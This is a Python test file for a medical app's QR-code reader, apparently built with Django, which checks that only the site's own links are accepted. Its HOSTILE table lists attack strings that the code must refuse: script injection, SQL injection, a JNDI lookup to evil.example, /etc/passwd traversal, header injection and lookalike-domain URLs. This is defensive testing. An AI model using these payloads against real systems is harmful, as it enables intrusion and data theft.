"""What a QR code may hold: ours, word for word, and nothing else."""

from __future__ import annotations

import base64
import contextlib
import json
import re
import time
from collections.abc import Iterator
from typing import Any

import pytest
from django.conf import settings
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from common import crypto
from prescriptions.numbers import new_number
from qrverify.payloads import LONGEST, Kind, PayloadRefused, read

SITE = "http://testserver"
SECRET = "Zm9v_0123456789-ABCDEFGHIJKLMNOPQRSTUVWXYZk"
HASH = "0123456789abcdef"
PAPER = f"{SITE}/verify/{SECRET}?v=1&h={HASH}"
SCAN = f"{SITE}/scan/{SECRET}"
CARD = f"{SITE}/e/{SECRET}"
SHC = "shc:/" + "5676" * 100


def shlink(**changes: Any) -> str:
    said = {"url": f"{SITE}/shl/{SECRET}", "key": SECRET, "v": 1} | changes
    return "shlink:/" + encoded(json.dumps(said).encode())


def encoded(content: bytes) -> str:
    return base64.urlsafe_b64encode(content).rstrip(b"=").decode()


OURS = [
    (SCAN, Kind.CONNECTION, "/scan/" + SECRET),
    (SECRET, Kind.CONNECTION, "/scan/" + SECRET),
    (f" {SCAN}\r\n", Kind.CONNECTION, "/scan/" + SECRET),
    ("7K3M9-Q2TC4", Kind.CONNECTION, "/scan/7K3M9Q2TC4"),
    ("7k3m9q2tc4", Kind.CONNECTION, "/scan/7K3M9Q2TC4"),
    ("7k3m9 - q2tc4", Kind.CONNECTION, "/scan/7K3M9Q2TC4"),
    ("7 K 3 M 9 Q 2 T C 4", Kind.CONNECTION, "/scan/7K3M9Q2TC4"),
    ("oil3m-q2tc4", Kind.CONNECTION, "/scan/0113MQ2TC4"),
    ("1234567890", Kind.CONNECTION, "/scan/1234567890"),
    (PAPER, Kind.PRESCRIPTION, PAPER.removeprefix(SITE)),
    (PAPER.replace("v=1", "v=32767"), Kind.PRESCRIPTION, f"/verify/{SECRET}?v=32767&h={HASH}"),
    (CARD, Kind.EMERGENCY, "/e/" + SECRET),
    (SHC, Kind.HEALTH_CARD, "/verify"),
    ("shc:/2/3/5676", Kind.HEALTH_CARD, "/verify"),
    (shlink(), Kind.HEALTH_LINK, "/shl#" + shlink()),
    (shlink(flag="LP", exp=1, label="ملخص"), Kind.HEALTH_LINK, None),
    (f"{SITE}/shl#{shlink()}", Kind.HEALTH_LINK, "/shl#" + shlink()),
]


@pytest.mark.parametrize(("text", "kind", "path"), OURS, ids=range(len(OURS)))
def test_what_we_print_is_read(text: str, kind: Kind, path: str | None) -> None:
    payload = read(text)

    assert payload.kind == kind
    assert path is None or payload.path == path
    assert payload.url == SITE + payload.path


# What is scanned, and the code of the refusal.
HOSTILE: dict[str, list[str]] = {
    "qr_empty": ["", " ", "\r\n\t "],
    "qr_too_long": ["x" * (LONGEST + 1), "x" * 1024 * 1024, SCAN + " " * LONGEST, "é" * 2_000_000],
    "qr_unseen_characters": [
        f"{SCAN}\x00",
        f"\x00{SCAN}",
        f"{SITE}/scan/\x00{SECRET}",
        f"{SCAN}\x1b[2J",
        f"\x08{SECRET}",
        f"{SCAN}\x1c",
        f"{SCAN}\x85",
        f"{SCAN}\u2028",
        f"{SCAN}\u2029evil",
        f"\ufeff{SCAN}",
        f"http://test\u200bserver/scan/{SECRET}",
        f"http://test\u200cserver/scan/{SECRET}",
        f"http://test\u200dserver/scan/{SECRET}",
        f"http://test\u2060server/scan/{SECRET}",
        f"http://test\u00adserver/scan/{SECRET}",
        f"\u202e{SCAN[::-1]}",
        f"{SITE}/\u202e{SECRET}/nacs",
        f"\u2066{SCAN}\u2069",
        f"{SCAN}\u200f",
        f"{SCAN}\ud800",
        f"{SCAN}\ue000",
        f"{SCAN}\U000e0061",
        "7K3M9\u200b-Q2TC4",
        "javascript:\u2028alert(1)",
    ],
    "qr_lookalike": [
        f"http://t\u0435stserver/scan/{SECRET}",  # Cyrillic е
        f"http://tests\u0435rver/verify/{SECRET}?v=1&h={HASH}",
        f"http://test\u0455erver/scan/{SECRET}",  # Cyrillic ѕ
        f"http://te\u017ftserver/scan/{SECRET}",  # long s
        f"http://\uff54estserver/scan/{SECRET}",  # full-width t
        f"http://testserver\u3002example/scan/{SECRET}",  # ideographic full stop
        f"http://xn--tstserver-9yd/scan/{SECRET}",
        f"http://testserver.xn--p1ai/scan/{SECRET}",
        f"xn--tstserver-9yd.example/scan/{SECRET}",
        f"http://testserver\u0301/scan/{SECRET}",
        f"http://testserve\u1d63/scan/{SECRET}",
    ],
    "qr_other_site": [
        f"http://evil.example/scan/{SECRET}",
        f"https://evil.example/verify/{SECRET}?v=1&h={HASH}",
        f"http://testserver.evil.example/scan/{SECRET}",
        f"http://eviltestserver/scan/{SECRET}",
        f"http://testserver@evil.example/scan/{SECRET}",
        f"http://testserver:80@evil.example/scan/{SECRET}",
        f"http://evil.example?http://testserver/scan/{SECRET}",
        f"http://evil.example#http://testserver/scan/{SECRET}",
        f"http://evil.example/{SCAN}",
        f"//evil.example/scan/{SECRET}",
        f"{SITE}\\scan\\{SECRET}",
        f"http://testserver./scan/{SECRET}",
        f"http://%74estserver/scan/{SECRET}",
        f"http://testserver%2eevil.example/scan/{SECRET}",
        f"http://127.0.0.1/scan/{SECRET}",
        f"http://2130706433/scan/{SECRET}",
        f"http://0x7f.1/scan/{SECRET}",
        f"http://[::1]/scan/{SECRET}",
        f"www.testserver/scan/{SECRET}",
        "https://example.org/",
        "www.example.org",
        "example.org",
        "example.org:8443/scan",
        "bit.ly/3xYz",
        "https://bit.ly/3xYz",
        f"https://viewer.example/shl#{shlink()}",
        "HTTPS://EVIL.EXAMPLE",
    ],
    "qr_damaged_link": [
        f"https://testserver/scan/{SECRET}",
        f"HTTP://testserver/scan/{SECRET}",
        f"http://TESTSERVER/scan/{SECRET}",
        f"http://testserver:80/scan/{SECRET}",
        f"http://testserver:8000/scan/{SECRET}",
        f"http://testserver:/scan/{SECRET}",
        f"http://user@testserver/scan/{SECRET}",
        f"http://user:password@testserver/scan/{SECRET}",
        f"http://evil.example@testserver/scan/{SECRET}",
        f"//testserver/scan/{SECRET}",
        f"{SITE}//scan/{SECRET}",
        f"{SITE}/scan//{SECRET}",
        f"{SITE}/Scan/{SECRET}",
        f"{SITE}/scan/{SECRET}/",
        f"{SITE}/scan/{SECRET}?",
        f"{SITE}/scan/{SECRET}?next=//evil.example",
        f"{SITE}/scan/{SECRET}#x",
        f"{SITE}/scan/{SECRET};x",
        f"{SITE}/scan/{SECRET[:-1]}",
        f"{SITE}/scan/{SECRET}A",
        f"{SITE}/scan/{SECRET[:-1]}l",
        f"{SITE}/scan/{SECRET[:-1]}=",
        f"{SITE}/scan/{SECRET}=",
        f"{SITE}/scan/{SECRET[:-1]}+",
        f"{SITE}/scan/{SECRET[:-1]}%41",
        f"{SITE}/scan/%5A{SECRET[1:]}",
        f"{SITE}/%73can/{SECRET}",
        f"{SITE}/scan%2F{SECRET}",
        f"{SITE}/scan/../login?next={SECRET}",
        f"{SITE}/scan/..%2f..%2fadmin",
        f"{SITE}/scan/7K3M9Q2TC4",
        f"{SITE}/scan/{SECRET}\r\nSet-Cookie: a=b",
        f"{SITE}/scan/{SECRET}\n{SCAN}",
        f"{SITE}/",
        f"{SITE}/admin/",
        f"{SITE}/logout",
        f"{SITE}/login?next=/scan/{SECRET}",
        f"{SITE}/e/{SECRET}?language=ar",
        f"{SITE}/e/",
        f"{SITE}/e/{SECRET[1:]}",
        f"{SITE}/files/{SECRET}",
        f"{SITE}/shl#{shlink(url='https://evil.example/shl')}",
        f"{SITE}/shl#{shlink()}=",
        f"{SITE}/shl#x{shlink()}",
        f"{SITE}/shl?x#{shlink()}",
        f"{SITE}/scan/<script>alert(1)</script>",
        f"{SITE}/scan/{SECRET}' OR 1=1--",
        "http://[",
        "http://[abc",
        "//[",
    ],
    "qr_incomplete_paper": [
        f"{SITE}/verify/{SECRET}",
        f"{SITE}/verify/{SECRET}?",
        f"{SITE}/verify/{SECRET}?v=1",
        f"{SITE}/verify/{SECRET}?h={HASH}",
        f"{SITE}/verify/{SECRET}?v=1&h=",
        f"{SITE}/verify/{SECRET}?v=1&h={HASH[:-1]}",
        f"{SITE}/verify/{SECRET}?v=1&h={HASH}0",
        f"{SITE}/verify/{SECRET}?v=1&h={HASH.upper()}",
        f"{SITE}/verify/{SECRET}?v=0&h={HASH}",
        f"{SITE}/verify/{SECRET}?v=01&h={HASH}",
        f"{SITE}/verify/{SECRET}?v=-1&h={HASH}",
        f"{SITE}/verify/{SECRET}?v=32768&h={HASH}",
        f"{SITE}/verify/{SECRET}?v=99999999999999999999&h={HASH}",
        f"{SITE}/verify/{SECRET}?v=٣&h={HASH}",
        f"{SITE}/verify/{SECRET}?h={HASH}&v=1",
        f"{SITE}/verify/{SECRET}?v=1&v=2&h={HASH}",
        f"{SITE}/verify/{SECRET}?v=1;h={HASH}",
        f"{SITE}/verify/{SECRET}?v=1%26h={HASH}",
        f"{SITE}/verify/{SECRET}?v=1&amp;h={HASH}",
        f"{PAPER}&language=ar",
        f"{PAPER}&next=//evil.example",
        f"{PAPER}#x",
        f"{PAPER}\nx",
        f"{SITE}/verify/{SECRET[:-1]}?v=1&h={HASH}",
        f"{SITE}/verify/?v=1&h={HASH}",
        f"{SITE}/verify/../e/{SECRET}",
    ],
    "qr_script": [
        "javascript:alert(1)",
        "JavaScript:alert(document.cookie)",
        "javascript://testserver/%0aalert(1)",
        f"javascript:alert(1)//{SECRET}",
        "jAvAsCrIpT:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "blob:http://testserver/1",
        "about:blank",
    ],
    "qr_act": [
        "WIFI:T:WPA;S:Clinic;P:secret;;",
        "BEGIN:VCARD\nVERSION:3.0\nN:Nabil;Karim\nEND:VCARD",
        "BEGIN:VCARD\r\nFN:<img src=x onerror=alert(1)>\r\nEND:VCARD",
        "BEGIN:VEVENT\nSUMMARY:Visit\nEND:VEVENT",
        "MECARD:N:Nabil,Karim;;",
        "tel:+201001234567",
        "TEL:*%2306%23",
        "sms:+201001234567?body=yes",
        "SMSTO:+201001234567:yes",
        "mailto:a@example.org",
        "geo:30.04,31.23",
        "otpauth://totp/x?secret=JBSWY3DPEHPK3PXP",
    ],
    "qr_other_app": [
        "intent://scan/#Intent;scheme=zxing;end",
        "market://details?id=x",
        "bitcoin:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
        "ftp://testserver/scan/x",
        "upi://pay?pa=x",
        "medisync://scan/x",
        "SHC:/5676",
        "Shlink:/eyJ9",
        "HC1:6BFOXN%TS3DH",
        "view-source:http://testserver/",
        "ws://testserver/ws",
    ],
    "qr_damaged_card": [
        "shc:/",
        "shc:/56a6",
        "shc:/0/3/5676",
        "shc:/1/0/5676",
        "shc:/1/100/5676",
        "shc:/1/3/2/5676",
        "shc:/ 5676",
        "shc:/５６７６",
        "shc:/5676\nshc:/5676",
        "shc:/-1",
        "shc://5676",
    ],
    "qr_damaged_health_link": [
        "shlink:/",
        "shlink:/!!!",
        "shlink:/eyJ1cmwi",
        shlink() + "=",
        shlink() + "==",
        shlink() + "\nx",
        "shlink:/" + encoded(b"[]"),
        "shlink:/" + encoded(b"1" * 5000),
        "shlink:/" + encoded(b"[" * 5000),
        "shlink:/" + encoded(b"\xff\xfe"),
        "shlink:/" + "A" * 5,
        "shlink:/" + encoded(b'{"url": "x"') + "/",
    ],
    "qr_other_health_link": [
        shlink(url="https://evil.example/shl/" + SECRET),
        shlink(url=f"{SITE}.evil.example/shl/{SECRET}"),
        shlink(url=f"{SITE}@evil.example/shl/{SECRET}"),
        shlink(url=f"{SITE}/shl/{SECRET}?x=1"),
        shlink(url=f"{SITE}/shl/{SECRET}\n"),
        shlink(url=f"{SITE}/admin/"),
        shlink(url=None),
        shlink(url=[f"{SITE}/shl/{SECRET}"]),
        shlink(url={"a": 1}),
        shlink(key="short"),
        shlink(key=None),
    ],
    "qr_prescription_number": [new_number(), new_number().lower(), new_number().replace("-", "")],
    "qr_number": ["5901234123457", "1", "0" * 500, "٣" * 13, "123456789"],
    "qr_not_ours": [
        "x",
        "?",
        "#",
        "/",
        "//",
        "\\\\",
        "\\\\evil.example\\scan",
        "http:///scan",
        f"https:{SECRET}",
        f"http:/testserver/scan/{SECRET}",
        "7.5",
        "nonsense",
        "../../etc/passwd",
        "<script>alert(1)</script>",
        "'; DROP TABLE qrverify_qrtoken;--",
        "{{ settings.SECRET_KEY }}",
        "${jndi:ldap://evil.example/a}",
        "%00",
        "%3Cscript%3E",
        "é" * 43,
        "é" * 10,
        "A" * 42,
        "A" * 44,
        "A" * 42 + "B",
        "A" * 42 + "=",
        "A" * 42 + "+",
        "UUUUU-UUUUU",
        "7K3M9-Q2TC",
        "7K3M9-Q2TC45",
        "7K3M9_Q2TC4",
        "7K3M9-Q2TC4 or 1=1",
        "٧K3M9-Q2TC4",
        "ſK3M9-Q2TC4",
        "7" + " " * 11 + "K3M9Q2TC4",
        "\u00a07K3M9-Q2TC4x",
        "a.b",
        "java\tscript:alert(1)",
        "mona@example.org",
        "ｈｔｔｐ：／／ｔｅｓｔｓｅｒｖｅｒ",
        "eyJhbGciOiJFUzI1NiJ9.e30.AAAA0",
        '{"verifiableCredential": []}',
        "أهلا بكم",
        "💊" * 100,
    ],
}
CASES = [(code, text) for code, texts in HOSTILE.items() for text in texts]


def test_table_is_long_enough() -> None:
    assert len(CASES) == len({text for _code, text in CASES})
    assert len(CASES) >= 200


@pytest.mark.parametrize(("code", "text"), CASES, ids=range(len(CASES)))
def test_hostile_payload_is_refused_in_words_of_ours(code: str, text: str) -> None:
    with pytest.raises(PayloadRefused) as refusal:
        read(text, attr="token")

    assert (refusal.value.code, refusal.value.attr) == (code, "token")
    assert (str(refusal.value.detail), refusal.value.status_code) == (
        PayloadRefused.DETAILS[code],
        400,
    )


def test_address_of_the_site_is_the_one_in_the_settings(settings: Any) -> None:
    settings.SITE_URL = "https://medisync.example"

    payload = read(f"https://medisync.example/scan/{SECRET}")

    assert payload.url == f"https://medisync.example/scan/{SECRET}"
    for foreign in (
        SCAN,
        f"http://medisync.example/scan/{SECRET}",
        f"https://medisync-example/scan/{SECRET}",
        f"https://medisync.example:443/scan/{SECRET}",
    ):
        with pytest.raises(PayloadRefused):
            read(foreign)


def test_every_secret_that_is_drawn_has_the_shape_of_one() -> None:
    for _ in range(2000):
        secret = crypto.new_secret()

        assert read(f"{SITE}/e/{secret}").secret == secret


def pieces() -> Iterator[str]:
    yield from ("http", "https", "javascript", "data", "shc", "shlink", "WIFI", "BEGIN", ":", "/")
    yield from ("//", "@", "#", "?", "&", "=", "%", "%2f", "\\", "..", ".", ":80", "v=1", "[", "]")
    yield from ("testserver", "evil.example", "xn--", "/scan/", "/verify/", "/e/", "/shl", "\x00")
    yield from (SECRET, HASH, SITE, "\u202e", "\u200b", "\u0435", "\uff0f", " ", "\n", "7K3M9Q2TC4")


WORDS = st.lists(st.sampled_from(list(pieces())), max_size=8).map("".join)
BROKEN = st.builds(
    lambda text, at, put: text[: at % (len(text) + 1)] + put + text[at % (len(text) + 1) :],
    st.sampled_from([text for text, _kind, _path in OURS]),
    st.integers(0, 5000),
    st.text(min_size=1, max_size=3),
)
LEADS_NOWHERE_ELSE = re.compile(
    rf"{re.escape(settings.SITE_URL)}"
    r"/(?:scan/(?:[\w-]{43}|[0-9A-HJKMNP-TV-Z]{10})|e/[\w-]{43}"
    r"|verify(?:/[\w-]{43}\?v=\d{1,5}&h=[0-9a-f]{16})?|shl#shlink:/[\w-]+)",
    re.ASCII,
)


@given(text=st.one_of(st.text(), WORDS, BROKEN, st.binary().map(lambda raw: raw.decode("latin-1"))))
@hypothesis_settings(suppress_health_check=[HealthCheck.too_slow])
def test_any_text_is_ours_or_refused(text: str) -> None:
    """And what is ours leads to one of our own pages, whatever was around it."""
    with contextlib.suppress(PayloadRefused):
        payload = read(text)

        assert LEADS_NOWHERE_ELSE.fullmatch(payload.url)
        assert payload.secret in text or payload.secret == read(payload.secret).secret


@given(secret=st.binary(min_size=32, max_size=32), version=st.integers(1, 32767))
def test_paper_is_read_as_it_was_printed(secret: bytes, version: int) -> None:
    path = f"/verify/{encoded(secret)}?v={version}&h={HASH}"

    payload = read(SITE + path)

    assert (payload.path, payload.version, payload.content_hash) == (path, version, HASH)


@pytest.mark.parametrize(
    "text", ["a." * 3999, "-" * LONGEST, "a" * LONGEST, "http://" + "a." * 3990, "9" * LONGEST,
             "shlink:/" + "A" * 7990, "x:" * 4000],
    ids=range(7),
)  # fmt: skip
def test_longest_text_is_judged_at_once(text: str) -> None:
    began = time.process_time()

    with pytest.raises(PayloadRefused):
        read(text)

    assert time.process_time() - began < 0.1
